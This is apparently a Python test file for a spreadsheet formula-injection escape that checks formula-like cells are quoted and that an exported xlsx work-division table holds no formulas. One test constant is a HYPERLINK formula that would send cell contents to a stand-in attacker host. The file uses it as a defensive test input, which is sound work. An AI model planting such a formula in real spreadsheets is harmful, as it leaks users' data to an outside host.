"""The one spreadsheet-cell escape (公式注入防护) and the 分工表 the core writes with it."""

import pytest

from gongkai.core import workpoints
from gongkai.core.cells import escape_cell, escape_row

PAYLOAD = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_formula_starts_are_quoted(start):
    assert escape_cell(start + "1+1") == "'" + start + "1+1"


@pytest.mark.parametrize("value", ["示范县", "", "1=1", " =1", "'=already", 5, -3, 2.5, None])
def test_other_values_pass_unchanged(value):
    assert escape_cell(value) == value


def test_escape_row_keeps_order_and_types():
    assert escape_row([1, PAYLOAD, "正常", None]) == [1, "'" + PAYLOAD, "正常", None]


def test_division_table_writes_no_formula(tmp_path):
    import openpyxl

    result = {
        "title": PAYLOAD,
        "parts": [{"number": "一", "heading": "公开"}],
        "items": [
            {
                "part": "一",
                "heading": "@SUM(1,1)",
                "tasks": [{"text": PAYLOAD, "units": [], "deadline": None}],
            }
        ],
    }
    path = workpoints.to_xlsx(result, tmp_path / "分工表.xlsx")
    sheet = openpyxl.load_workbook(path).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    values = [cell.value for cell in cells]
    assert "'" + PAYLOAD + "任务分工表" in values and "'" + PAYLOAD in values and "'@SUM(1,1)" in values
